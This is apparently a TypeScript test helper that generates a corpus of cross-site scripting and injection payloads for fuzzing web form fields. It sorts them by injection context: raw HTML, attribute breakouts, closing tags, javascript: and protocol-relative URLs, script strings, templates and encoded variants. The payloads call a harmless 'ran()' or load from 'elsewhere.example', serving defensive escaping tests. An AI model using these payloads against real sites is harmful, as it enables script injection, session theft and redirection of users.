import type { Texts } from './planted-texts.ts'

// Texts that would run, load or lead away wherever a page took them for something else than text. Each calls `ran`, or
// asks for something from elsewhere.example. They are sorted by where they would do it; what is most general comes first.

export const ELSEWHERE = 'elsewhere.example'

const RUNS = 'ran()'
const IMAGE = `<img src=x onerror=${RUNS}>`

/** What follows on a `<` that was not escaped. */
const IN_TEXT = [
  IMAGE,
  `<script>${RUNS}</script>`,
  `<SCRIPT >${RUNS}</SCRIPT\t>`,
  `<img/src="x"/onerror="${RUNS}">`,
  `<image src=x onerror=${RUNS}>`,
  `<svg/onload=${RUNS}>`,
  `<svg><script>${RUNS}</script></svg>`,
  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
  `<svg><style><img src=x onerror=${RUNS}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style>${IMAGE}`,
  `<body onload=${RUNS}>`,
  `<input autofocus onfocus=${RUNS}>`,
  `<select autofocus onfocus=${RUNS}>`,
  `<details open ontoggle=${RUNS}>`,
  `<video><source onerror=${RUNS}></video>`,
  `<audio src=x onerror=${RUNS}>`,
  `<marquee onstart=${RUNS}>x</marquee>`,
  `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUNS}"></iframe>`,
  `<object data="//${ELSEWHERE}/x"></object>`,
  `<embed src="//${ELSEWHERE}/x">`,
  `<link rel=stylesheet href="//${ELSEWHERE}/x.css">`,
  `<style>@import "//${ELSEWHERE}/x.css";</style>`,
  `<base href="//${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="9;url=//${ELSEWHERE}">`,
  `<form action="//${ELSEWHERE}"><button>x</button></form>`,
  `<a href="javascript:${RUNS}">x</a>`,
  `<a href="java&#10;script:${RUNS}">x</a>`,
  `<a href="&#1;JavaScript:${RUNS}">x</a>`,
  `<a href="data:text/html,<script>${RUNS}</script>">x</a>`,
  `<xss autofocus tabindex=1 onfocus=${RUNS}>x</xss>`,
  `<?x >${IMAGE}`,
  `<!-->${IMAGE}`,
] as const

/** What ends the attribute in which it stands. */
const IN_ATTRIBUTE = [
  `" autofocus onfocus=${RUNS} x="`,
  `' autofocus onfocus=${RUNS} x='`,
  `">${IMAGE}`,
  `'>${IMAGE}`,
  `" onmouseover="${RUNS}`,
  `' onmouseover='${RUNS}`,
  `x onfocus=${RUNS} autofocus`,
  `x>${IMAGE}`,
  `"/><svg onload=${RUNS}>`,
  `"\tonfocus\t=\t"${RUNS}" autofocus x="`,
] as const

/** What ends an element that holds only text, or a comment. */
const ENDING = [
  `</textarea>${IMAGE}`,
  `</title>${IMAGE}`,
  `</style>${IMAGE}`,
  `</script>${IMAGE}`,
  `</select>${IMAGE}`,
  `</noscript>${IMAGE}`,
  `</iframe>${IMAGE}`,
  `</table></dl></main>${IMAGE}`,
  `-->${IMAGE}`,
  `--!>${IMAGE}`,
  `]]>${IMAGE}`,
] as const

/** What an address would lead to. */
const IN_ADDRESS = [
  `javascript:${RUNS}`,
  `JAVASCRIPT:${RUNS}`,
  `java\tscript:${RUNS}`,
  `\u0001javascript:${RUNS}`,
  `javascript://%0a${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `//${ELSEWHERE}/x`,
  `\\\\${ELSEWHERE}/x`,
  `/\\${ELSEWHERE}/x`,
  `https:${ELSEWHERE}`,
] as const

/** What ends a text inside a script. */
const IN_SCRIPT = [`';${RUNS};//`, `";${RUNS};//`, `\\';${RUNS};//`, `</script><script>${RUNS}</script>`, `\${${RUNS}}`]

/** What other machines would take for an instruction, or make a `<` of: templates, and other ways to write it. */
const FOR_OTHERS = [
  `{{constructor.constructor('${RUNS}')()}}`,
  `<%= ${RUNS} %>#{${RUNS}}[[\${${RUNS}}]]`,
  `&lt;img src=x onerror=${RUNS}&gt;`,
  `&#60;script&#62;${RUNS}&#60;/script&#62;`,
  `&quot; onfocus=${RUNS} x=&quot;`,
  `&amp;lt;script&amp;gt;${RUNS}`,
  `%3Cscript%3E${RUNS}%3C/script%3E`,
  `\\u003cscript\\u003e${RUNS}\\x3c/script\\x3e`,
  `\uff1cscript\uff1e${RUNS}\uff1c/script\uff1e`,
  `\ufe64img src=x onerror=${RUNS}\ufe65`,
  `+ADw-script+AD4-${RUNS}+ADw-/script+AD4-`,
  `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
  `\u202e>tpircs<${RUNS}`,
  `\ufeff\u200b<\u200bscript>${RUNS}`,
  `<\u0000script>${RUNS}</script>`,
  `$&$1$\`$'$$`,
]

/** Each text of the corpus by the place in which it would do something. */
export const CORPUS = { IN_TEXT, IN_ATTRIBUTE, ENDING, IN_ADDRESS, IN_SCRIPT, FOR_OTHERS } as const
export const HOSTILE: readonly string[] = Object.values(CORPUS).flat()

const LINE = 60

/** One of each kind, for fields that take a line only. */
const IN_A_LINE: readonly string[] = [
  ...IN_TEXT.slice(0, 4),
  ...IN_ATTRIBUTE.slice(0, 4),
  ...IN_ATTRIBUTE.slice(6, 8),
  ...ENDING.slice(0, 2),
  ...IN_ADDRESS.slice(0, 1),
  ...IN_SCRIPT.slice(1, 2),
  ...FOR_OTHERS.slice(2),
].filter(({ length }) => length <= LINE)

export type HostileTexts = {
  readonly texts: Texts
  /** For each field the texts that it was never given: of the whole corpus, or of what a line takes. */
  readonly notGiven: () => ReadonlyMap<string, readonly string[]>
}

type Field = { readonly fitting: readonly string[]; readonly given: Set<string>; next: number }

/**
 * Texts of the corpus for each field, as many of them as fit into it, one after another; asked again for the same field,
 * the next ones.
 */
export function hostileTexts(): HostileTexts {
  const fields = new Map<string, Field>()
  let number = 0
  const fieldFor = (name: string, most: number): Field => {
    const known = fields.get(name)
    if (known) return known
    const fitting = most < 200 ? IN_A_LINE : HOSTILE
    const field: Field = { fitting, given: new Set(), next: 0 }
    fields.set(name, field)
    return field
  }
  const texts: Texts = (name, most) => {
    const field = fieldFor(name, most)
    const taken: string[] = []
    const isFull = (length: number) => taken.length > 0 && (length > most || name.endsWith('.email'))
    for (let length = 0; taken.length < field.fitting.length; field.next += 1) {
      const one = field.fitting[field.next % field.fitting.length] ?? ''
      length += one.length + (taken.length > 0 ? 1 : 0)
      if (isFull(length)) break
      taken.push(one)
      field.given.add(one)
    }
    number += 1
    // An address has no space and one @ only.
    return name.endsWith('.email') ? `${taken[0]?.replaceAll(/[\s@]/g, '/') ?? ''}@${number}.example` : taken.join(' ')
  }
  const notGiven = () =>
    new Map(
      [...fields].map(([name, { fitting, given }]) => [name, fitting.filter((text) => !given.has(text))] as const),
    )
  return { texts, notGiven }
}
